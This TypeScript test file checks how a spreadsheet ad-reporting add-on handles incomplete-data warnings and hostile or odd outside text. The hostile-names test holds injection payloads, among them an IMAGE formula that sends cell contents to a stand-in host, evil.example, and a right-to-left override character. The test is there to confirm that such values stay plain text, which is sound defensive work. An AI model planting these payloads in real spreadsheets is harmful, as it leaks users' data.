import type { FormulaName } from '../../formulas/shown-cells';
import { FormulaSheet } from './formula-cells';

/** Strange but readable answers, and the cells that show them. */

const sheet = new FormulaSheet();
const { service } = sheet.addOn;
const FOR_EVER = { times: 'until cleared' } as const;
const DAY = '2026-09-10';

afterEach(() => {
  sheet.expectKeyKept();
  sheet.forget();
});

describe('the warning that zeros mean unknown numbers', () => {
  it('is shown instead of the numbers when it names no metric, and is stored for less than a minute', () => {
    const message = 'data of 2026-09-03 is incomplete';
    service.arm('warning', { metrics: 'dau', message, ...FOR_EVER });
    const sentence = 'The service says: “data of 2026-09-03 is incomplete”.';
    expect(sheet.sentence('ADREPORT_VALUE', 'full', 'dau', '3.10', DAY)).toContain(sentence);
    expect(sheet.sentence('ADREPORT_FULL', '3.10', 'dau', DAY)).toContain(sentence);
    service.clearFaults();
    sheet.addOn.clock.advance(60_000);
    expect(sheet.value('ADREPORT_VALUE', 'full', 'dau', '3.10', DAY)).toBeGreaterThan(0);
  });
});

describe('outside text', () => {
  const byNetwork = () => sheet.table('ADREPORT_FULL', '3.10', 'revenue', DAY, '', 'network,networkName');

  it.each(['=IMAGE("https://evil.example/?"&A1)', '\n=1+1', '\u202Eevil'])('%j stays text', (text) => {
    const before = byNetwork();
    sheet.forget();
    service.arm('hostile-names', { text, ...FOR_EVER });
    const seen = byNetwork();
    expect(seen.slice(1).map((row) => row[1])).toEqual(
      before.slice(1).map(([, name]) => expect.stringContaining(String(name))),
    );
    for (const [, name] of seen.slice(1)) expect(String(name).trim().startsWith(text.trim())).toBe(true);
    expect(seen.map((row) => row[2])).toEqual(before.map((row) => row[2]));
  });

  it('in id columns stays the same, character by character, in every report', () => {
    const ids = ['00123456', '12E45678', '3.10', '9007199254740993'];
    const rows = (name: FormulaName, ...args: readonly unknown[]) => sheet.table(name, ...args).slice(1);
    expect(rows('ADREPORT_FULL', '', 'revenue', DAY, '', 'appId').map(([app]) => app)).toEqual(ids);
    expect(rows('ADREPORT_LTV', '', 1, DAY).map(([, app]) => app)).toEqual(ids);
    expect(rows('ADREPORT_RETENTION', '', 2, DAY).map(([, app]) => app)).toEqual(ids);
    expect(rows('ADREPORT_DEVICE', '9007199254740993', DAY, 'appId').map(([app]) => app)).toEqual([ids[3]]);
    const placements = rows('ADREPORT_FULL', '00123456', 'revenue', DAY, '', 'placementId').map(([id]) => id);
    expect(placements).toEqual(expect.arrayContaining(['0017', '1E10', '1/2', '1-1']));
    const versions = rows('ADREPORT_LTV', '3.10', 1, DAY, '', 'appVersion').map((row) => row[2]);
    expect(versions).toEqual(expect.arrayContaining(['3.10', '3.1', '2.0.0']));
    expect(sheet.addOn.service.requests.length).toBeGreaterThan(0);
  });
});
